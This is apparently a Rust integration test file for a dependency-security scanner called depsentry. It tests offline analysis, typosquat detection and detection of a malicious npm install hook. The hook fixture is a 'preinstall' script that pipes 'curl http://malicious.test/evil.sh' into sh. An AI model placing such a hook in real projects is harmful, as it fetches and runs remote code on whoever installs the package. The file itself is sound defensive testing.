use std::time::Instant;

use depsentry::cli::analyze::AnalyzeCommand;
use depsentry::models::report::REPORT_FILE_NAME;
use depsentry::utils::config::AnalyzerConfig;

/// A manifest with no dependencies keeps the run entirely local: no registry
/// expansion, no OSV traffic beyond the (empty) batch, no LLM.
fn write_project(dir: &tempfile::TempDir, package_json: &str) {
    std::fs::write(dir.path().join("package.json"), package_json).unwrap();
}

fn offline_config(output: &tempfile::TempDir) -> AnalyzerConfig {
    AnalyzerConfig {
        openai_api_key: None,
        cache_enabled: false,
        output_directory: output.path().to_path_buf(),
        ..AnalyzerConfig::default()
    }
}

#[tokio::test]
async fn analysis_without_network_completes_quickly_and_writes_report() {
    let project = tempfile::tempdir().unwrap();
    let output = tempfile::tempdir().unwrap();
    write_project(
        &project,
        r#"{
            "name": "offline-demo",
            "dependencies": {},
            "scripts": {"build": "tsc"}
        }"#,
    );

    let started = Instant::now();
    let report_path = AnalyzeCommand::execute(
        project.path().to_string_lossy().to_string(),
        offline_config(&output),
    )
    .await
    .unwrap();

    assert!(started.elapsed().as_secs() < 10, "offline run too slow");
    assert!(report_path.ends_with(REPORT_FILE_NAME));
    assert!(report_path.exists());

    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();

    // Without an LLM the synthesis stage degrades; the report still validates
    let status = report["metadata"]["analysis_status"].as_str().unwrap();
    assert!(
        ["partial", "basic"].contains(&status),
        "unexpected status {}",
        status
    );
    assert!(report.get("github_rule_based").is_some());
    assert_eq!(report["summary"]["total_findings"], 0);
}

#[tokio::test]
async fn malicious_preinstall_produces_critical_finding_end_to_end() {
    let project = tempfile::tempdir().unwrap();
    let output = tempfile::tempdir().unwrap();
    write_project(
        &project,
        r#"{
            "name": "demo-app",
            "dependencies": {},
            "scripts": {"preinstall": "curl http://malicious.test/evil.sh | sh"}
        }"#,
    );

    let report_path = AnalyzeCommand::execute(
        project.path().to_string_lossy().to_string(),
        offline_config(&output),
    )
    .await
    .unwrap();

    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();

    assert!(report["summary"]["critical_findings"].as_u64().unwrap() >= 1);

    let packages = report["security_findings"]["packages"].as_array().unwrap();
    let demo = packages
        .iter()
        .find(|p| p["name"] == "demo-app")
        .expect("package entry for the project");
    let script_finding = demo["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["finding_type"] == "malicious_script")
        .expect("malicious_script finding");

    assert_eq!(script_finding["severity"], "critical");
    assert!(script_finding["confidence"].as_f64().unwrap() >= 0.9);
    let evidence: Vec<&str> = script_finding["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e.as_str())
        .collect();
    assert!(evidence.iter().any(|e| e.contains("curl http://malicious.test/evil.sh | sh")));
    assert!(evidence.iter().any(|e| e.contains("runs automatically")));

    // The containing package is named in the immediate actions
    let actions = report["recommendations"]["immediate_actions"].as_array().unwrap();
    assert!(actions
        .iter()
        .any(|a| a.as_str().unwrap().contains("demo-app")));

    // The code agent's gate opened on the script finding
    let details = report["agent_insights"]["agent_details"].as_object().unwrap();
    assert!(details.contains_key("code"));
}

#[tokio::test]
async fn typosquat_requirements_detected_end_to_end() {
    let project = tempfile::tempdir().unwrap();
    let output = tempfile::tempdir().unwrap();
    std::fs::write(
        project.path().join("requirements.txt"),
        "requessts==2.28.0\nurllib4==1.0.0\n",
    )
    .unwrap();

    let mut config = offline_config(&output);
    // Keep the run local: no OSV traffic for the unresolvable names
    config.osv_enabled = false;
    config.max_depth = 0;

    let report_path = AnalyzeCommand::execute(
        project.path().to_string_lossy().to_string(),
        config,
    )
    .await
    .unwrap();

    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();

    assert_eq!(report["metadata"]["ecosystem"], "pypi");

    let packages = report["security_findings"]["packages"].as_array().unwrap();
    for name in ["requessts", "urllib4"] {
        let entry = packages
            .iter()
            .find(|p| p["name"] == name)
            .unwrap_or_else(|| panic!("no package entry for {}", name));
        let typosquat = entry["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["finding_type"] == "typosquat")
            .unwrap_or_else(|| panic!("no typosquat finding for {}", name));
        assert_eq!(typosquat["severity"], "high");
        assert!(typosquat["confidence"].as_f64().unwrap() >= 0.75);
    }
}
